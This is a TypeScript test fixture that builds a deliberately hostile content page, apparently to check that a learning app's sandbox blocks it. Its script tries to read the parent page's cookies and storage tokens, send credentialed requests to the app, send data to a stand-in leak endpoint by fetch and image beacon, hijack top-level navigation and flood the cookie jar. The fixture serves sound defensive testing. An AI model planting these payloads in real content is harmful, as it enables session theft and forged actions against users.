/**
 * A content object that tries what a hostile package would try, and leaves what came of each in `window.attempts`:
 * the text `refused: …` or `worked: …`. `appOrigin` is the origin of the app's pages, `base` its mount path.
 */
export function hostileSco(appOrigin: string, base: string): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title></head><body><h1>Hostile</h1>
<script>
var APP = ${JSON.stringify(appOrigin)}, BASE = ${JSON.stringify(base)};
window.attempts = {};
function note(name, work) {
  return Promise.resolve().then(work).then(
    function (value) { window.attempts[name] = value; },
    function (fault) { window.attempts[name] = 'refused: ' + fault; });
}
function timed(promise) { return Promise.race([promise, new Promise(function (done, fail) { setTimeout(function () { fail('no answer'); }, 3000); })]); }
window.attack = function () {
  return Promise.all([
    note('read cookies of the page above', function () { return 'worked: ' + window.top.document.cookie; }),
    note('read own cookies', function () { return document.cookie === '' ? 'refused: none are sent here' : 'worked: ' + document.cookie; }),
    note('read the page above', function () { return 'worked: ' + window.top.document.title; }),
    note('call the app with the session', function () {
      return timed(fetch(APP + BASE + '/account', { credentials: 'include' })).then(function (answer) { return 'worked: ' + answer.status; }); }),
    note('post to the app with the session', function () {
      return timed(fetch(APP + BASE + '/launches', { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' })).then(function (answer) { return 'worked: ' + answer.type; }); }),
    note('frame the app', function () {
      return new Promise(function (done, fail) {
        var frame = document.createElement('iframe'); frame.src = APP + BASE + '/account';
        frame.onload = function () { try { fail(frame.contentDocument ? 'an empty page' : 'an error page'); } catch (fault) { fail(fault); } };
        document.body.append(frame); setTimeout(function () { fail('never loaded'); }, 3000);
      }); }),
    note('register a service worker', function () {
      return navigator.serviceWorker.register('worker.js').then(function () { return 'worked: registered'; }); }),
    note('open a window', function () { return window.open('about:blank') ? 'worked: opened' : 'refused: no window'; }),
    note('send data out by fetch', function () {
      return timed(fetch('http://127.0.0.1:9/leak?d=1', { mode: 'no-cors' })).then(function () { return 'worked: sent'; }); }),
    note('send data out by image', function () {
      return new Promise(function (done, fail) { var image = new Image(); image.onload = function () { done('worked: loaded'); }; image.onerror = function () { fail('blocked'); }; image.src = APP + BASE + '/assets/leak.png?d=1'; }); }),
    note('navigate the top page', function () { window.top.location = 'about:blank#taken'; return 'refused: silently'; }),
    note('read the launch token', function () {
      var found = [];
      for (var w = window; w !== w.parent; w = w.parent) { try { found = found.concat(Object.keys(w.sessionStorage), Object.keys(w.localStorage)); } catch (fault) { found.push(); } }
      return found.some(function (key) { return /token/i.test(key); }) ? 'worked: ' + found : 'refused: nothing stored here'; }),
    note('fill the cookie jar', function () {
      for (var i = 0; i < 400; i++) document.cookie = 'filler' + i + '=' + 'x'.repeat(1000) + ';path=/';
      return 'refused: see whether the person is still signed in'; }),
  ]);
};
</script></body></html>`;
}
